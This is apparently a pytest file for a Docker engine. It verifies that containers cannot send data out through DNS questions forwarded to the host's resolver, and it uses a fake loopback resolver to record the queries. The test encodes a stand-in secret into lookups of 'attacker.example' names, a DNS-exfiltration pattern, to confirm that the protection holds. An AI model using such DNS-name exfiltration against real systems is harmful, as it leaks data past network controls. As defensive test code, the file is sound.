"""A container sends data out as names that it asks for: the daemon would hand them on to the host's resolvers."""

import contextlib
import socket
import threading
from collections.abc import Iterator

import docker
import pytest

from engines.docker.engine import DEAD_RESOLVER
from tests.contracts.engine_acts import WAITS, Act, ended, launched, said
from tests.contracts.harnesses import DockerHarness
from tests.services.own_docker import BASE, OwnDocker, enter

ASKS = """
import os, socket
if {name!r}.endswith(".example"):
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"  # nobody is to answer
try:
    print(socket.getaddrinfo({name!r}, 80)[0][4][0])
except OSError as error:
    print("no answer")
"""
SECRET = "account-4711.attacker.example"


def asks(name: str) -> Act:
    return Act(("python3", "-c", ASKS.format(name=name)))


class WithResolver(OwnDocker):
    """A daemon whose host has a resolver on its loopback, as most have: `heard` is what that was asked."""

    def __init__(self) -> None:
        super().__init__()
        self.heard: list[bytes] = []
        self.configured = self.home / "resolv.conf"
        self.configured.write_text("nameserver 127.0.0.1\n")
        self._resolver: socket.socket
        opened = threading.Event()
        thread = threading.Thread(
            target=self._listen,
            args=(opened,),
            daemon=True,
        )
        thread.start()
        assert opened.wait(30)

    @property
    def inside(self) -> list[str]:
        own_file = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
        return [*super().inside, "unshare", "--mount", "sh", "-c", own_file, str(self.configured)]

    def close(self) -> None:
        super().close()
        self._resolver.close()

    def _listen(self, opened: threading.Event) -> None:
        enter(self.name)
        self._resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._resolver.bind(("127.0.0.1", 53))
        opened.set()
        with contextlib.suppress(OSError):
            while True:
                question, sender = self._resolver.recvfrom(4096)
                self.heard.append(question)
                self._resolver.sendto(
                    question[:2] + b"\x81\x83" + question[4:], sender
                )  # there is no such name


@pytest.fixture
def own() -> Iterator[WithResolver]:
    with contextlib.closing(WithResolver()) as daemon:
        daemon.start()
        daemon.load(BASE)
        yield daemon


def label(name: str) -> bytes:
    return name.partition(".")[0].encode()


@pytest.mark.docker
@pytest.mark.own_docker
@pytest.mark.slow
def test_no_question_of_a_container_reaches_the_hosts_resolver(own: WithResolver) -> None:
    """Names of its own network are answered: where the gateway is a container, its listener has such a name."""
    harness = DockerHarness("bfia-dns")
    engine = harness.engine(base_url=own.url)
    there = launched(harness, engine, WAITS)
    said(engine, there.name, b"ready")
    answers = {}
    for name in (there.name, SECRET):
        spec = launched(harness, engine, asks(name))
        ended(engine, spec.name)
        answers[name] = engine.logs(spec.name).stdout.decode().strip()
    with contextlib.closing(docker.DockerClient(own.url)) as client:
        found = client.api.inspect_container(there.name)
        assert found["HostConfig"]["Dns"] == [DEAD_RESOLVER]
        address = found["NetworkSettings"]["Networks"]["bfia-dns"]["IPAddress"]
        assert answers == {there.name: address, SECRET: "no answer"}
        assert not [question for question in own.heard if label(SECRET) in question]
        client.containers.run(  # the way is there for any other container
            BASE,
            ["python3", "-c", ASKS.format(name="other.attacker.example")],
            network="bfia-dns",
            remove=True,
        )
    assert [question for question in own.heard if b"other" in question]
    engine.remove(there.name)
    engine.close()
